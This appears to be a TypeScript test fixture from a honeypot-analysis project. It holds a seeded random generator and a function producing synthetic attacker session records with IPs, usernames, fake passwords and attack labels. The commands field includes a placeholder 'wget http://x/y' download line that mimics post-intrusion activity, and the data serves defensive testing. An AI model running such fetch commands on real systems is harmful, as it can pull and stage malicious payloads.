/** A deterministic 32-bit generator (mulberry32), so test tables are the same on every run. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const COUNTRIES = ['DE', 'FR', 'NL', 'US', 'CN', 'RU', 'BR', 'VN'];
const ATTACKS = ['bruteforce', 'malware-drop', 'recon', 'cryptominer', 'botnet-join'];
const USERS = ['root', 'admin', 'ubuntu', 'pi', 'test'];

/** `n` honeypot sessions shaped like the ones waggle releases. */
export function aSessionTable(n: number, seed = 1): Record<string, unknown>[] {
  const r = prng(seed);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)] as T;
  const start = Date.parse('2026-11-01T00:00:00Z');
  return Array.from({ length: n }, (_, i) => ({
    session_id: `s-${i}`,
    src_ip: `${10 + Math.floor(r() * 4)}.${Math.floor(r() * 256)}.${Math.floor(r() * 256)}.${1 + Math.floor(r() * 254)}`,
    country: pick(COUNTRIES),
    asn: 64_500 + Math.floor(r() * 40),
    start_time: new Date(start + Math.floor(r() * 30 * 86_400_000)).toISOString(),
    duration: Math.floor(r() * 600),
    username: pick(USERS),
    password: `pw${Math.floor(r() * 1000)}`,
    commands: ['uname -a', 'wget http://x/y'].slice(0, 1 + Math.floor(r() * 2)),
    attack_type: pick(ATTACKS),
  }));
}
